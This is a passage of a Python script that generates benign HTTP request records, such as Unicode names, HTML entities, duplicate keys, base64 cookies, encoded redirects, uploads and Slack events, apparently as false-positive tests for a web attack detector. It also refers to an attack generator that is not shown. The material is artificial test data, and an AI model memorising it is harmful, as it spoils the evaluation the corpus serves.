    "quick poll: tabs or spaces?", "lookup user ann.lee; lookup user ben.ng", "lookup user d'arcy",
    "lookup user ＡＢＣ商事 の 山田さん", "lookup user Renée (the new PM)", "hey bot, lookup user sam+test@example.org",
    "<@U07BOT1234> lookup user <@U02ABCDEF12>", "lookup user\nann.lee", "lookup user Siobhán",
    "the where clause in the report spec confused everyone, let's talk", "fish &amp chips on Friday, who's in?",
]
SEARCHES = ["O'Brien", "smith & sons", "R&D", "C++ developer", "node.js", "100% remote", "ann.lee@example.org",
            "Zoë", "devops or sre", "\"exact phrase\"", "select committee", "union square office", "café", "李",
            "d'arcy", "müller", "support (tier 2)", "sales - emea", "ops/infra", "#design", "@ann", "Q3 2024",
            "first-name last-name", "a&b testing", "5 < 10"]
FILENAMES = ["résumé.pdf", "Zoë_avatar.png", "写真 2024-05-01.jpg", "Jahresbericht_Übersicht.xlsx",
             "report (final) v2.csv", "team photo #3.jpeg", "O'Brien headshot.png", "naïve-bayes-notes.txt",
             "Ærø trip.heic", "スクリーンショット 2024-06-01 10.15.32.png", "договор.docx", "plan & budget.pdf",
             "avatar.png", "Q3 [draft].pptx", "invoice_2024-06.pdf", "señal.mp3"]
ENTITY_TEXTS = ["Ben &amp; Jerry's", "caf&eacute; au lait", "&copy; 2024 Acme GmbH", "5 &lt; 10 &gt; 3",
                "Fish &amp chips", "M&uuml;ller &amp; S&ouml;hne", "R&amp;D", "AT&amp;T", "Q&amp;A", "&nbsp;indented",
                "&quot;quoted&quot;", "Price: 10&euro;", "rock &#38; roll", "&#8220;Hello&#8221;", "caf&#233",
                "Barnes &amp; Noble", "Tom &amp Jerry", "&lt;3 this team", "na&iuml;ve", "50&#37; off"]
JP_TEXTS = ["東京都港区芝公園４－２－８", "ＡＢＣ商事株式会社", "ｶﾀｶﾅ ﾃｽﾄ", "（株）山田製作所",
            "Ｓｕｚｕｋｉ　Ｉｃｈｉｒｏ", "１２３－４５６７", "大阪府大阪市北区梅田１丁目", "ﾔﾏﾀﾞ ﾀﾛｳ",
            "営業部　第２課", "ＴＥＬ：０３－１２３４－５６７８"]
TINY_PNG = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")


def html_safe_json(doc: Any) -> str:
    """JSON as HTML-safe encoders write it (\\u003c, \\u003e, \\u0026, \\u0027) with ASCII escapes."""
    s = json.dumps(doc)
    return s.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026").replace("'", "\\u0027")


class Benign:
    def __init__(self) -> None:
        self.c = Ctx(8686)
        self.n = 0

    def rec(self, kind: str, placement: str, req: Rec) -> Rec:
        self.n += 1
        return _check({**req, "id": f"{NAME}-{kind}-{self.n:04d}", "category": "benign", "placement": placement})

    def hpp(self) -> Iterator[Rec]:
        c = self.c
        for i in range(70):
            v = i % 7
            if v == 0:
                roles = ["admin", "editor", "viewer", "billing"]
                pairs = [("role", roles[i % 4]), ("role", roles[(i + 1) % 4]), ("page", str(i % 5 + 1))]
                uri = "/api/users?" + qs(pairs)
                yield self.rec("hpp", "query", c.get(uri))
            elif v == 1:
                cols = ["name", "email", "avatar_url", "department", "title"]
                uri = "/api/users?" + qs([("fields", f) for f in cols[: 2 + i % 4]])
                yield self.rec("hpp", "query", c.get(uri))
            elif v == 2:
                uri = "/api/users?" + qs([("id", str(10 + i)), ("id", str(17 + i)), ("id", str(42 + i))])
                yield self.rec("hpp", "query", c.get(uri))
            elif v == 3:
                statuses = [("status", "active"), ("status", "invited")]
                q = self.c.pick(SEARCHES)
                yield self.rec("hpp", "form", c.form("/admin/users/search",
                                                     [("csrf_token", c.tok()), ("q", q)] + statuses))
            elif v == 4:
                scopes = ["users:read", "users:write", "teams:read", "openid", "email"]
                fields = [("grant_type", "client_credentials"), ("client_id", "reporting-" + c.hexs(6))]
                fields += [("scope", s) for s in scopes[: 2 + i % 3]]
                yield self.rec("hpp", "form", c.form("/oauth/token", fields))
            elif v == 5:
                fields = [("csrf_token", c.tok()), ("notify", "email"), ("notify", "slack"), ("notify", "push")]
                yield self.rec("hpp", "form", c.form("/me/settings", fields[: 3 + i % 2]))
            else:
                words = self.c.pick(["New York", "San Francisco", "Rio de Janeiro", "Den Haag", "Saint-Étienne"])
                yield self.rec("hpp", "query", c.get("/api/users?" + qs([("q", w) for w in words.split(" ")])))

    def unicode_json(self) -> Iterator[Rec]:
        c = self.c
        for i in range(90):
            name = PEOPLE[i % len(PEOPLE)]
            bio = BIOS[i % len(BIOS)]
            v = i % 5
            doc = {"name": name, "email": f"user{i}@example.org", "bio": bio, "department": "Sales"}
            if v == 0:
                yield self.rec("unicode", "json", c.json_text("/api/users", json.dumps(doc)))
            elif v == 1:
                yield self.rec("unicode", "json", c.json_text("/api/users", html_safe_json(doc)))
            elif v == 2:
                yield self.rec("unicode", "json", c.json_text("/api/users/42", json.dumps({"bio": bio}), "PATCH"))
            elif v == 3:
                text = json.dumps({"website": "https://blog.example.com/" + str(i), "name": name})
                yield self.rec("unicode", "json", c.json_text("/api/users", text.replace("/", "\\/")))
            else:
                yield self.rec("slack", "json", c.slack_event(json.dumps("lookup user " + name)))

    def dupkey(self) -> Iterator[Rec]:
        c = self.c
        for i in range(30):
            name = PEOPLE[(i * 3) % len(PEOPLE)]
            first = name.split(" ")[0]
            body = f'{{"name": {json.dumps(first)}, "email": "u{i}@example.org", "name": {json.dumps(name)}}}'
            if i % 3 == 2:
                body = '{"timezone": "UTC", "locale": "en", "timezone": "Europe/Berlin"}'
                yield self.rec("dupkey", "json", c.json_text("/api/users/42", body, "PATCH"))
            else:
                yield self.rec("dupkey", "json", c.json_text("/api/users", body))

    def nested(self) -> Iterator[Rec]:
        c = self.c
        for i in range(50):
            v = i % 5
            if v == 0:
                inner = json.dumps({"theme": c.pick(["dark", "light", "system"]), "density": "compact",
                                    "signature": "— " + PEOPLE[i % len(PEOPLE)]}, ensure_ascii=False)
                yield self.rec("nested", "json", c.json("/api/users", {"name": "Ann Lee", "settings": inner}))
            elif v == 1:
                inner = json.dumps([{"key": "locale", "value": "de-DE"}, {"key": "digest", "value": "weekly"}])
                yield self.rec("nested", "json", c.json("/api/users/42", {"prefs": inner}, "PATCH"))
            elif v == 2:
                doc = {"type": "block_actions", "user": {"id": c.sid("U"), "username": "ann.lee"},
                       "api_app_id": c.sid("A"), "token": c.tok(18), "trigger_id": f"{c.rng.randrange(10**12)}.1",
                       "team": {"id": c.sid("T"), "domain": "acme"}, "channel": {"id": c.sid("C"), "name": "helpdesk"},
                       "actions": [{"action_id": "lookup_user", "block_id": "b1", "type": "plain_text_input",
                                    "value": PEOPLE[i % len(PEOPLE)]}]}
                yield self.rec("nested", "form", c.slack_interaction(doc))
            elif v == 3:
                inner = json.dumps({"department": c.pick(["Sales", "R&D", "Ops"]), "active": True})
                yield self.rec("nested", "query", c.get("/api/users?" + qs([("filter", inner), ("page", "1")])))
            else:
                inner = json.dumps({"bio": BIOS[i % len(BIOS)]}, ensure_ascii=True)
                yield self.rec("nested", "json", c.json("/api/users", {"name": "Ann Lee", "draft": inner}))

    def b64(self) -> Iterator[Rec]:
        c = self.c
        for i in range(70):
            v = i % 6
            if v == 0:
                avatar = "data:image/png;base64," + (TINY_PNG if i % 2 else base64.b64encode(
                    b"\x89PNG\r\n\x1a\n" + c.rng.randbytes(300)).decode())
                yield self.rec("b64", "json", c.json("/api/users", {"name": PEOPLE[i % len(PEOPLE)],
                                                                     "avatar": avatar}))
            elif v == 1:
                cur = b64(json.dumps({"after": 20 * i, "sort": "created_at"}))
                yield self.rec("b64", "query", c.get("/api/users?" + qs([("cursor", cur), ("per_page", "20")])))
            elif v == 2:
                rec = c.get("/api/users?page=1")
                rec["headers"]["Cookie"] = (f"session={c.tok()}; prefs="
                                            f"{b64url(json.dumps({'theme': 'dark', 'lang': c.pick(LANGS)[:2]}))}")
                yield self.rec("b64", "cookie", rec)
            elif v == 3:
                fields = [("grant_type", "authorization_code"), ("code", c.tok(20)),
                          ("redirect_uri", "https://app.example.com/oauth/callback"),
                          ("client_id", "web-" + c.hexs(8)), ("code_verifier", c.tok(32)),
                          ("state", b64url(json.dumps({"next": "/settings/profile", "nonce": c.hexs(16)})))]
                yield self.rec("oauth", "form", c.form("/oauth/token", fields))
            elif v == 4:
                rec = c.get("/api/users/42")
                rec["headers"]["X-Request-Context"] = b64(json.dumps({"tenant": "acme", "region": "eu-west-1"}))
                yield self.rec("b64", "header", rec)
            else:
                fields = [("grant_type", "refresh_token"), ("refresh_token", c.tok(48)), ("client_id", "ios-app")]
                yield self.rec("oauth", "form", c.form("/oauth/token", fields))

    def hexes(self) -> Iterator[Rec]:
        c = self.c
        for i in range(30):
            v = i % 3
            if v == 0:
                yield self.rec("hex", "json", c.json("/api/users/42", {"color": "#" + c.hexs(6),
                                                                       "avatar_sha256": c.hexs(64)}, "PATCH"))
            elif v == 1:
                yield self.rec("hex", "query", c.get("/api/users?" + qs([("etag", c.hexs(32)), ("page", "1")])))
            else:
                rec = c.get("/me/settings")
                rec["headers"]["Cookie"] = f"session={c.tok()}; csrftoken={c.hexs(64)}"
                rec["headers"]["X-Idempotency-Key"] = c.hexs(32)
                yield self.rec("hex", "cookie", rec)

    def double_encoded(self) -> Iterator[Rec]:
        c = self.c
        targets = ["/settings/profile", "/admin/users?page=2&sort=name", "/team/design?tab=members",
                   "/search?q=Zoë Kravitz", "/reports/2024/q3?format=pdf"]
        for i in range(40):
            t = targets[i % len(targets)]
            v = i % 4
            if v == 0:
                redirect = "https://app.example.com/oauth/callback?next=" + pct(t)
                fields = [("grant_type", "authorization_code"), ("code", c.tok(20)), ("redirect_uri", redirect),
                          ("client_id", "web-" + c.hexs(8)), ("code_verifier", c.tok(32))]
                yield self.rec("oauth", "form", c.form("/oauth/token", fields))
            elif v == 1:
                yield self.rec("redirect", "query", c.get(f"/api/users?page=1&next={pct(pct(t))}"))
            elif v == 2:
                yield self.rec("redirect", "json", c.json("/api/users/42", {"landing_page": pct(t)}, "PATCH"))
            else:
                yield self.rec("redirect", "form", c.form("/me/settings", [("csrf_token", c.tok()),
                                                                           ("return_to", pct(t))]))

    def fullwidth_text(self) -> Iterator[Rec]:
        c = self.c
        for i in range(40):
            t = JP_TEXTS[i % len(JP_TEXTS)]
            v = i % 4
            if v == 0:
                yield self.rec("fullwidth", "query", c.get("/api/users?" + qs([("q", t), ("page", "1")])))
            elif v == 1:
                yield self.rec("fullwidth", "json", c.json("/api/users", {"name": "山田 太郎", "address": t}))
            elif v == 2:
                yield self.rec("fullwidth", "form", c.form("/admin/users/search", [("csrf_token", c.tok()), ("q", t)]))
            else:
                yield self.rec("slack", "json", c.slack_event(json.dumps("lookup user " + t, ensure_ascii=False)))

    def uploads(self) -> Iterator[Rec]:
        c = self.c
        for i in range(90):
            fn = FILENAMES[i % len(FILENAMES)]
            v = i % 6
            ctype = "application/pdf" if fn.endswith(".pdf") else "text/csv" if fn.endswith(".csv") else \
                "application/octet-stream"
            content = "name,email\nAnn Lee,ann@example.org\nZoë,zoe@example.org" if fn.endswith(".csv") else \
                "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n%%EOF" if fn.endswith(".pdf") else \
                "file-bytes-" + c.tok(24)
            safe_fn = fn.replace('"', "%22")
            if v == 0:
                cd = f'Content-Disposition: form-data; name="attachment"; filename="{safe_fn}"'
            elif v == 1:
                cd = f"Content-Disposition: form-data; name=\"attachment\"; filename*=UTF-8''{pct(fn)}"
            elif v == 2:
                ascii_fn = fn.encode("ascii", "replace").decode().replace("?", "_").replace('"', "%22")
                cd = f'Content-Disposition: form-data; name="attachment"; filename="{ascii_fn}"; ' \
                     f"filename*=UTF-8''{pct(fn)}"
            elif v == 3:
                cd = f'content-disposition: form-data; name=attachment; filename="{safe_fn}"'
            elif v == 4:
                cd = f'Content-Disposition: form-data; name="avatar"; filename="{safe_fn}"'
            else:
                cd = f'Content-Disposition: form-data; name="avatar"; filename="{safe_fn}"'
                ctype, content = "image/svg+xml", ('<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
                                                   '<circle cx="32" cy="32" r="30" fill="#1e90ff"/></svg>')
            parts = [('Content-Disposition: form-data; name="csrf_token"', c.tok()),
                     ('Content-Disposition: form-data; name="display_name"', PEOPLE[i % len(PEOPLE)]),
                     (cd + "\r\nContent-Type: " + ctype, content)]
            if i % 4 == 1:
                parts += [('Content-Disposition: form-data; name="tags"', "2024"),
                          ('Content-Disposition: form-data; name="tags"', "reports")]
            uri = ["/api/users", "/me/settings", "/api/users"][i % 3]
            if i % 5 == 4:
                b = "=_Part_" + c.hexs(8) + ".x"
                rec = c.multipart(uri, parts, b, f'multipart/form-data; boundary="{b}"')
                yield self.rec("upload", "multipart", rec)
            else:
                yield self.rec("upload", "multipart", c.multipart(uri, parts))

    def param_names(self) -> Iterator[Rec]:
        c = self.c
        queries = ["filter[status]=active&filter[role]=admin", "sort[created_at]=desc&page=2",
                   "fields[users]=name,email&include=team", "page[size]=50&page[number]=3",
                   "utm_source=newsletter&utm_medium=email&utm_campaign=spring_2024",
                   "filter%5Bdepartment%5D=R%26D", "q=ann&facets[]=team&facets[]=location",
                   "include=team,manager&fields[team]=name"]
        for i in range(40):
            v = i % 4
            if v < 2:
                yield self.rec("paramname", "query", c.get("/api/users?" + queries[i % len(queries)]))
            elif v == 2:
                doc = {"settings.theme": "dark", "notifications.email": True, "größe": "M", "name": "Ann Lee"}
                yield self.rec("paramname", "json", c.json("/api/users/42", doc, "PATCH"))
            else:
                yield self.rec("paramname", "form", c.form("/me/settings", [("csrf_token", c.tok()),
                                                                           ("notify[email]", "on"),
                                                                           ("notify[slack]", "off")]))

    def slack(self) -> Iterator[Rec]:
        c = self.c
        for i, text in enumerate(SLACK_TEXTS):
            kind = "app_mention" if "<@U07BOT1234>" in text else "message"
            yield self.rec("slack", "json", c.slack_event(json.dumps(text, ensure_ascii=False), kind))
            yield self.rec("bio", "json", c.json("/api/users", {"name": PEOPLE[i % len(PEOPLE)],
                                                                 "bio": text.replace("&amp;", "&")}))
        for i in range(40):
            who = ["ann.lee", "@maria", "O'Brien", "zoë", "李雷", "ben.ng@example.org", "D'Arcy McAllister",
                   "Renée", "sam+test", "Анна"][i % 10]
            text = slack_escape(f"user {who}") if i % 3 else f"user {who}"
            yield self.rec("command", "form", c.slack_command(text, ["/lookup", "/whois"][i % 2]))

    def headers_kind(self) -> Iterator[Rec]:
        c = self.c
        uas = BROWSERS + ["curl/8.5.0", "PostmanRuntime/7.39.0", "python-requests/2.32.3", "okhttp/4.12.0",
                          "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
                          "Chrome/126.0.6478.122 Mobile Safari/537.36"]
        for i in range(50):
            rec = c.get(["/api/users?page=1", "/api/users/42", "/me/settings"][i % 3])
            h = rec["headers"]
            v = i % 5
            if v == 0:
                h["User-Agent"] = uas[i % len(uas)]
            elif v == 1:
                h["Referer"] = "https://www.google.com/search?q=acme+team+directory&oq=acme+team&sourceid=chrome"
            elif v == 2:
                del h["Accept-Language"]
                h["accept-language"] = "de-CH,de;q=0.9,fr-CH;q=0.8,fr;q=0.7,en;q=0.5"
                h["sec-ch-ua"] = '"Chromium";v="126", "Not.A/Brand";v="24", "Google Chrome";v="126"'
            elif v == 3:
                h["X-Forwarded-For"] = f"198.51.100.{i}, 10.0.{i % 4}.2"
                h["X-Request-Id"] = c.sid("req-", 12).lower()
            else:
                h["If-None-Match"] = f'W/"{c.hexs(16)}"'
                h["Referer"] = "https://app.example.com/admin/users?q=O%27Brien&page=2"
            yield self.rec("header", "header", rec)

    def cookies(self) -> Iterator[Rec]:
        c = self.c
        for i in range(40):
            rec = c.get(["/api/users?page=1", "/me/settings", "/api/users/42"][i % 3])
            v = i % 5
            tok = c.tok()
            if v == 0:
                val = f'session={tok}; consent="analytics=0&ads=0"; theme=dark'
            elif v == 1:
                val = f"_ga=GA1.2.{c.rng.randrange(10**9)}.{1719000000 + i}; _gid=GA1.2.{c.rng.randrange(10**9)}; " \
                      f"session={tok}"
            elif v == 2:
                val = f"lang=de; session={tok}; lang=en"
            elif v == 3:
                val = f'session={tok}; display_name="Zo\\303\\253 K."; tz=Europe/Berlin'
            else:
                val = f"session={tok}; recent={pct(json.dumps(['ann.lee', 'ben.ng']))}"
            rec["headers"]["Cookie"] = val
            yield self.rec("cookie", "cookie", rec)

    def paths(self) -> Iterator[Rec]:
        c = self.c
        paths = ["/api/users/42", "/api/users/ann.lee", "/api/users/%C3%A9lodie.martin", "/api/users/42/avatar.png",
                 "/api/users/ann%40example.org", "/api/users/O%27Brien", "/api/users/li%20lei", "/api/users/me",
                 "/api/users/42/teams/7", "/api/users/%E5%B1%B1%E7%94%B0"]
        for i in range(40):
            p = paths[i % len(paths)]
            if i % 4 == 3:
                yield self.rec("path", "path", c.json(p, {"title": "Senior Engineer"}, "PATCH"))
            else:
                yield self.rec("path", "path", c.get(p))

    def raw(self) -> Iterator[Rec]:
        c = self.c
        for i in range(40):
            doc = json.dumps({"name": PEOPLE[i % len(PEOPLE)], "bio": BIOS[i % len(BIOS)]}, ensure_ascii=False)
            v = i % 6
            if v == 0:
                yield self.rec("raw", "raw-body", c.send("POST", "/api/users", doc, "text/plain;charset=UTF-8"))
            elif v == 1:
                yield self.rec("raw", "raw-body", c.send("POST", "/api/users", "\ufeff" + doc, "application/json"))
            elif v == 2:
                yield self.rec("raw", "raw-body", c.send("PATCH", "/api/users/42", json.dumps({"title": "Lead"}),
                                                         "application/merge-patch+json"))
            elif v == 3:
                yield self.rec("raw", "raw-body", c.send("POST", "/api/users", doc, "application/json; charset=UTF-8"))
            elif v == 4:
                ascii_doc = json.dumps({"name": "Ann Lee", "title": "Engineer", "department": "Ops"})
                yield self.rec("charset", "raw-body", c.send("POST", "/api/users", ascii_doc.encode(
                    "utf-16-le").decode("latin-1"), "application/json; charset=utf-16le"))
            else:
                yield self.rec("raw", "raw-body", c.send("POST", "/api/users", doc, "application/vnd.api+json"))

    def xml(self) -> Iterator[Rec]:
        c = self.c
        for i in range(30):
            name = xml_esc(PEOPLE[i % len(PEOPLE)])
            bio = BIOS[i % len(BIOS)]
            v = i % 3
            if v == 0:
                body = (f'<?xml version="1.0" encoding="UTF-8"?>\n'
                        f"<user><name>{name}</name><bio>{xml_esc(bio)}</bio></user>")
            elif v == 1:
                body = f'<?xml version="1.0"?>\n<user><name>{name}</name><bio><![CDATA[{bio}]]></bio></user>'
            else:
                body = f'<?xml version="1.0"?>\n<user name="{name}" city="Z&#252;rich" note="R&amp;D"/>'
            yield self.rec("xml", "xml", c.send("POST" if i % 2 == 0 else "PATCH",
                                                "/api/users" if i % 2 == 0 else "/api/users/42", body,
                                                "application/xml"))

    def entity(self) -> Iterator[Rec]:
        c = self.c
        for i in range(50):
            t = ENTITY_TEXTS[i % len(ENTITY_TEXTS)]
            v = i % 4
            if v == 0:
                yield self.rec("entity", "json", c.json("/api/users", {"name": "Ann Lee", "bio": t}))
            elif v == 1:
                yield self.rec("entity", "form", c.form("/admin/users/search", [("csrf_token", c.tok()), ("q", t)]))
            elif v == 2:
                yield self.rec("slack", "json", c.slack_event(json.dumps("lookup user " + t)))
            else:
                yield self.rec("entity", "json", c.json("/api/users/42", {"title": t}, "PATCH"))

    def fields(self) -> Iterator[Rec]:
        c = self.c
        for i in range(40):
            person = PEOPLE[i % len(PEOPLE)]
            first, _, last = person.partition(" ")
            v = i % 4
            if v == 0:
                yield self.rec("fields", "form", c.form("/me/settings", [("csrf_token", c.tok()), ("first_name", first),
                                                                         ("last_name", last or "-")]))
            elif v == 1:
                yield self.rec("fields", "json", c.json("/api/users", {"first_name": first, "last_name": last,
                                                                        "address_line1": "Musterstraße 12",
                                                                        "address_line2": "c/o Müller & Co."}))
            elif v == 2:
                yield self.rec("fields", "query", c.get("/api/users?" + qs([("sort", c.pick(["name", "created_at",
                                                                                          "last_login"])),
                                                                         ("order", c.pick(["asc", "desc"]))])))
            else:
                yield self.rec("fields", "json", c.json("/api/users/42", {"dir": "Reports/2024",
                                                                          "file": "q3-summary.pdf"}, "PATCH"))

    def deep(self) -> Iterator[Rec]:
        c = self.c
        for i in range(20):
            v = i % 4
            if v == 0:
                doc: Any = {"enabled": True}
                for k in range(12):
                    doc = {f"section{11 - k}": doc}
                yield self.rec("deep", "json", c.json("/api/users/42", {"settings": doc}, "PATCH"))
            elif v == 1:
                yield self.rec("deep", "json", c.json("/api/users", {"name": "Ann Lee",
                                                                      "tags": [f"tag-{k:03d}" for k in range(200)]}))
            elif v == 2:
                bio = " ".join(BIOS) * 12
                yield self.rec("deep", "json", c.json("/api/users", {"name": "Ann Lee", "bio": bio}))
            else:
                fields = [("csrf_token", c.tok())] + [(f"team_{k}", "on") for k in range(60)]
                yield self.rec("deep", "form", c.form("/me/settings", fields))

    def searches(self) -> Iterator[Rec]:
        c = self.c
        for i in range(50):
            q = SEARCHES[i % len(SEARCHES)]
            if i % 2:
                yield self.rec("search", "form", c.form("/admin/users/search", [("csrf_token", c.tok()), ("q", q)]))
            else:
                yield self.rec("search", "query", c.get("/api/users?" + qs([("q", q), ("page", str(i % 4 + 1))])))


def benign() -> Iterator[Rec]:
    b = Benign()
    for part in (b.hpp, b.unicode_json, b.dupkey, b.nested, b.b64, b.hexes, b.double_encoded, b.fullwidth_text,
                 b.uploads, b.param_names, b.slack, b.headers_kind, b.cookies, b.paths, b.raw, b.xml, b.entity,
                 b.fields, b.deep, b.searches):
        yield from part()


if __name__ == "__main__":
    print_records(attacks(), benign())
